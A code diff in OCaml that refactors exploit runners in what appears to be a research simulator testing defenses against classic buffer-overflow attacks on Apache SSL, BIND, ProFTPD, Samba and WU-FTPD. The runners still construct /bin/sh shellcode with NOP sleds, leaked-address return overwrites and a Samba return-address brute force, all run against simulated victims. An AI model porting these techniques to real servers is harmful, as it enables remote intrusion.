@@ -268,17 +268,19 @@ let assert_clean payload =
   assert (not (Shellcode.contains_newline payload));
   payload
 
-let run_apache ?defense () =
-  let s = Runner.start ?defense (apache_victim ()) in
+let run_apache_session ?defense ?obs () =
+  let s = Runner.start ?defense ?obs (apache_victim ()) in
   let buf = Runner.leak_addr (Runner.recv s) in
   let code = Shellcode.execve_bin_sh ~sled:8 ~base:buf () in
   let key = code ^ Guest.filler (64 - String.length code) ^ w buf in
   Runner.send s (String.make 1 (Char.chr (String.length key)) ^ key);
   ignore (Runner.step s);
-  Runner.outcome s
+  (Runner.outcome s, s)
 
-let run_bind ?defense () =
-  let s = Runner.start ?defense (bind_victim ()) in
+let run_apache ?defense ?obs () = fst (run_apache_session ?defense ?obs ())
+
+let run_bind_session ?defense ?obs () =
+  let s = Runner.start ?defense ?obs (bind_victim ()) in
   Runner.send s "query: victim.example.com\n";
   let buf = Runner.leak_addr (Runner.recv s) in
   let code = Shellcode.execve_bin_sh ~sled:16 ~base:buf () in
@@ -287,10 +289,12 @@ let run_bind ?defense () =
   in
   Runner.send s (payload ^ "\n");
   ignore (Runner.step s);
-  Runner.outcome s
+  (Runner.outcome s, s)
 
-let run_proftpd ?defense () =
-  let s = Runner.start ?defense (proftpd_victim ()) in
+let run_bind ?defense ?obs () = fst (run_bind_session ?defense ?obs ())
+
+let run_proftpd_session ?defense ?obs () =
+  let s = Runner.start ?defense ?obs (proftpd_victim ()) in
   let store = Runner.leak_addr (Runner.recv s) in
   (* 32 newlines expand to exactly the 64 bytes that fill the translation
      buffer; the next 4 translated bytes land on the dispatch pointer. *)
@@ -299,19 +303,26 @@ let run_proftpd ?defense () =
   let file = String.make 32 '\n' ^ w code_at ^ "\000" ^ code in
   Runner.send s file;
   ignore (Runner.step s);
-  Runner.outcome s
+  (Runner.outcome s, s)
+
+let run_proftpd ?defense ?obs () = fst (run_proftpd_session ?defense ?obs ())
 
 (* Samba: no leak — version 2.6 kernels randomize stack placement slightly,
    so the exploit brute-forces the return address from a good first guess
    (paper §6.1.2). Each attempt is a fresh connection (fresh process, fresh
    randomization). *)
-type samba_result = { outcome : Runner.outcome; attempts : int; detections : int }
+type samba_result = {
+  outcome : Runner.outcome;
+  attempts : int;
+  detections : int;
+  last : Runner.session option;
+}
 
 let samba_buf_from_esp esp =
   (* main pushes ebp, call pushes ret, trans2open pushes ebp: -12; locals 600 *)
   esp - 12 - 600
 
-let run_samba ?defense ?(max_attempts = 64) ?(jitter_pages = 16) () =
+let run_samba ?defense ?obs ?(max_attempts = 64) ?(jitter_pages = 16) () =
   let code = Shellcode.execve_bin_sh_pic ~sled:400 () in
   (* "Insider information": the good first guess comes from manual analysis
      of a similar vulnerable system (paper §6.1.2) — model it by reading the
@@ -325,10 +336,11 @@ let run_samba ?defense ?(max_attempts = 64) ?(jitter_pages = 16) () =
   in
   let detections = ref 0 in
   let rec attempt n =
-    if n > max_attempts then { outcome = Runner.Hung; attempts = n - 1; detections = !detections }
+    if n > max_attempts then
+      { outcome = Runner.Hung; attempts = n - 1; detections = !detections; last = None }
     else begin
       let s =
-        Runner.start ?defense ~stack_jitter_pages:jitter_pages ~seed:(1000 + n)
+        Runner.start ?defense ?obs ~stack_jitter_pages:jitter_pages ~seed:(1000 + n)
           (samba_victim ())
       in
       let payload =
@@ -340,7 +352,7 @@ let run_samba ?defense ?(max_attempts = 64) ?(jitter_pages = 16) () =
       detections := !detections + s.victim.detections;
       match o with
       | Runner.Shell_spawned _ | Runner.Foiled _ ->
-        { outcome = o; attempts = n; detections = !detections }
+        { outcome = o; attempts = n; detections = !detections; last = Some s }
       | Runner.Crashed _ | Runner.Completed _ | Runner.Hung -> attempt (n + 1)
     end
   in
@@ -348,8 +360,8 @@ let run_samba ?defense ?(max_attempts = 64) ?(jitter_pages = 16) () =
 
 (* WU-FTPD: two-stage 7350wurm-style payload; returns the session so the
    response-mode demos can keep talking to the spawned shell. *)
-let run_wuftpd ?defense ?(commands = [ "id"; "q" ]) () =
-  let s = Runner.start ?defense (wuftpd_victim ()) in
+let run_wuftpd ?defense ?obs ?(commands = [ "id"; "q" ]) () =
+  let s = Runner.start ?defense ?obs (wuftpd_victim ()) in
   let glob = Runner.leak_addr (Runner.recv s) in
   let stage1_base = glob + 68 in
   let stage1 = Shellcode.two_stage_stage1 ~sled:16 ~base:stage1_base () in
@@ -372,9 +384,24 @@ let run_wuftpd ?defense ?(commands = [ "id"; "q" ]) () =
   ignore (Runner.step s);
   (Runner.outcome s, s)
 
-let run ?defense = function
-  | Apache_ssl -> run_apache ?defense ()
-  | Bind -> run_bind ?defense ()
-  | Proftpd -> run_proftpd ?defense ()
-  | Samba -> (run_samba ?defense ()).outcome
-  | Wuftpd -> fst (run_wuftpd ?defense ())
+(* End-to-end with the final kernel session exposed, so callers can render
+   the machine state (cost model, TLB statistics) after the attack. Samba
+   only has a session when an attempt concluded decisively. *)
+let run_session ?defense ?obs = function
+  | Apache_ssl ->
+    let o, s = run_apache_session ?defense ?obs () in
+    (o, Some s)
+  | Bind ->
+    let o, s = run_bind_session ?defense ?obs () in
+    (o, Some s)
+  | Proftpd ->
+    let o, s = run_proftpd_session ?defense ?obs () in
+    (o, Some s)
+  | Samba ->
+    let r = run_samba ?defense ?obs () in
+    (r.outcome, r.last)
+  | Wuftpd ->
+    let o, s = run_wuftpd ?defense ?obs () in
+    (o, Some s)
+
+let run ?defense ?obs id = fst (run_session ?defense ?obs id)
